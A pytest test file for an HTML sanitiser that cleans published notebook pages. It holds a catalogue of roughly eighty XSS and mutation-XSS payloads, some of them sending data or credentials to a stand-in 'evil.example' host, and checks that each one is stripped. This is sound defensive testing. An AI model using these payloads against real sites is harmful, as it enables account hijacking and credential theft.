"""Attacks on the page of a published notebook: what a workspace could send to its guests."""

import re
from html.parser import HTMLParser

import pytest

from museion_hub.registry.sanitising import TAGS, clean, sanitise, stylesheet

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGA"
KNOWN = (
    "abbr align alt class colspan dir height href id lang rel reversed rowspan scope span src "
    "start title type width"
)
ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script-in-pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-as-svg": "<svg><script>alert(1)</script></svg>",
    "script-src": "<script src=//evil.example/x.js></script>",
    "handler": "<img src=x onerror=alert(1)>",
    "handler-slash": "<img/src/onerror=alert(1)>",
    "handler-on-details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "handler-upper": "<P ONCLICK='alert(1)'>x</P>",
    "handler-newline": "<p on\nclick=alert(1) onclick\n=alert(1)>x</p>",
    "javascript": "<a href='javascript:alert(1)'>x</a>",
    "javascript-case": "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "javascript-tab": "<a href='java\tscript:alert(1)'>x</a>",
    "javascript-entity": "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "javascript-control": "<a href='\x01javascript:alert(1)'>x</a>",
    "vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "data-html": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "data-html-image": f"<img src='data:text/html;base64,{PIXEL}'>",
    "data-svg-as-text": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "data-with-parameters": f"<img src='data:image/png;charset=x;base64,{PIXEL}'>",
    "data-link-to-picture": f"<a href='data:image/svg+xml;base64,{PIXEL}'>x</a>",
    "blob": "<a href='blob:https://hub.example/1'>x</a><img src='blob:x'>",
    "file": "<a href='file:///etc/passwd'>x</a><img src='file:///etc/passwd'>",
    "protocol-relative": "<a href='//evil.example/'>x</a><img src='//evil.example/x.png'>",
    "own-origin": "<a href='/hub/logout'>x</a><img src='/hub/logout'>",
    "remote-picture": "<img src='https://evil.example/pixel.png'>",
    "srcset": f"<img src='data:image/png;base64,{PIXEL}' srcset='https://evil.example/ 2x'>",
    "picture": "<picture><source srcset='https://evil.example/x'><img></picture>",
    "svg": "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg-foreign": "<svg><foreignObject><iframe srcdoc='<script>1'/></foreignObject></svg>",
    "svg-image": "<svg><image href='https://evil.example/x.png'/></svg>",
    "math": "<math href='javascript:alert(1)'>x</math>",
    "math-action": "<math><maction actiontype='statusline' xlink:href='javascript:1'>x</maction>",
    "math-annotation": "<math><annotation-xml encoding='text/html'><script>1</script></math>",
    "style": "<style>@import 'https://evil.example/x.css'</style>",
    "style-exfiltration": "<style>a[href^='x']{background:url(https://evil.example/x)}</style>",
    "style-attribute": "<p style='background:url(https://evil.example/)'>x</p>",
    "style-overlay": "<div style='position:fixed;inset:0'>Sign in again</div>",
    "stylesheet": "<link rel=stylesheet href='https://evil.example/x.css'>",
    "prefetch": "<link rel=dns-prefetch href='https://evil.example'>",
    "background": "<table background='https://evil.example/x'><td background='//x'>x</table>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "policy": '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "base": "<base href='https://evil.example/'><a href='#x'>x</a>",
    "form": "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "form-elsewhere": "<button form=f formaction='javascript:alert(1)'>x</button>",
    "iframe": "<iframe src='https://evil.example'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data='data:text/html,<script>1</script>'></object><embed src='x.swf'>",
    "ping": "<a href='https://example.org' ping='https://evil.example'>x</a>",
    "target": "<a href='https://example.org' target=_blank rel=opener>x</a>",
    "download": "<a href='https://example.org' download>x</a>",
    "template": "<template><script>alert(1)</script></template>",
    "shadow": "<div><template shadowrootmode=open><script>1</script></template></div>",
    "slot": "<xss-element onfocus=alert(1) autofocus tabindex=1>x</xss-element>",
    "editable": "<p contenteditable autofocus onfocus=alert(1)>x</p>",
    "clobbering": "<p id=document name=cookie>x</p><a id=location href='#'>x</a>",
    "audio": "<audio src=x onerror=alert(1)></audio><video poster='https://evil.example'></video>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "isindex": "<isindex type=image src=1 onerror=alert(1)>",
    "comment": "<!-- --!><script>alert(1)</script> -->",
    "conditional": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing": "<?xml-stylesheet href='https://evil.example'?><? <script>alert(1)</script>",
    "doctype": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "nul": "<scr\0ipt>alert(1)</scr\0ipt><p on\0click=alert(1)>x</p>",
    "unclosed": "<img src='x' onerror='alert(1)'",
    "quote": '<a href="https://x/" onclick="alert(1)" title=\'"><script>alert(1)</script>\'>x</a>',
    "title-mutation": '<title><a title="</title><img src=x onerror=alert(1)>">',
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "textarea-mutation": '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "xmp-mutation": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "style-mutation": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "math-mutation": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "math-table-mutation": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
        "onerror=alert(1)&gt;'>"
    ),
    "svg-desc-mutation": "<svg><desc><noscript>&lt;/noscript>&lt;img src onerror=alert(1)>",
    "svg-title-mutation": "<svg><title><style><a title='</style><img src onerror=alert(1)>'>",
    "list-mutation": "<select><option><style><a title='</style><img src onerror=1>'></select>",
    "frameset": "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "numbers": "<td colspan='1; x' width='100%'></td><img width='9999999' src=x>",
}


class Reader(HTMLParser):
    """Another parser than the one that cleaned: what is there for a browser to see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment stayed: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration stayed: {decl}")


def require_harmless(html: str) -> None:
    found = Reader(html)
    assert found.tags <= TAGS
    assert {name for _, name, _ in found.attributes} <= set(KNOWN.split())
    for tag, name, value in found.attributes:
        if name == "src":
            assert re.fullmatch(r"data:image/(png|jpeg|gif|webp|svg\+xml);base64,[\w+/=\s]+", value)
        if name == "href":
            assert tag == "a"
            assert re.match(r"https?://|mailto:|#", value)
        if name == "id":
            assert re.fullmatch(r"h[1-6]", tag)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_nothing_harmful_stays(attack: str) -> None:
    cleaned = clean(f"<p>before</p>{attack}<p>after</p>")
    require_harmless(cleaned)
    assert "before" in cleaned


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_what_was_cleaned_does_not_change_when_it_is_read_again(attack: str) -> None:
    once = clean(attack)
    assert clean(once) == once


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
@pytest.mark.parametrize("around", ["<table><tr><td>{}</table>", "<ul><li>{}", "<b><i>{}</b>"])
def test_an_attack_inside_other_elements_fails_too(attack: str, around: str) -> None:
    require_harmless(clean(around.format(attack)))


@pytest.mark.parametrize(
    "kept",
    [
        "<h1>Title</h1><p><em>a</em> <code>b</code> <sub>c</sub></p>",
        '<div class="code"><pre><span class="k">import</span> x</pre></div>',
        f'<div class="result picture"><img src="data:image/png;base64,{PIXEL}" alt="a view"></div>',
        f'<img alt="line" src="data:image/svg+xml;base64,{PIXEL}" width="40" height="30">',
        '<table class="dataframe"><tbody><tr><th align="right">1</th></tr></tbody></table>',
        '<pre><span class="ansi-red-fg">red</span></pre>',
        '<ol start="3"><li>x</li></ol><details><summary>x</summary>y</details>',
        '<h2 id="Results">Results</h2>',
    ],
)
def test_what_a_notebook_shows_stays_as_it_is(kept: str) -> None:
    assert clean(kept) == kept


def test_links_lead_out_without_saying_from_where() -> None:
    rel = 'rel="noopener noreferrer nofollow"'
    html = clean("<a href='https://example.org/a?b=1#c'>x</a><a href='#Results'>y</a>")
    assert (
        html == f'<a href="https://example.org/a?b=1#c" {rel}>x</a><a href="#Results" {rel}>y</a>'
    )


def test_a_class_stays_only_if_the_stylesheet_knows_it() -> None:
    assert clean('<span class="k jp-Dialog evil">x</span>') == '<span class="k">x</span>'


def test_the_stylesheet_loads_nothing_and_ends_no_element() -> None:
    assert "url(" not in stylesheet()
    assert "@import" not in stylesheet()
    assert "</" not in stylesheet()


def test_the_work_is_done_in_a_process_without_our_environment() -> None:
    assert sanitise("<p onclick=x>ä → ∞<script>1</script></p>") == "<p>ä → ∞</p>"
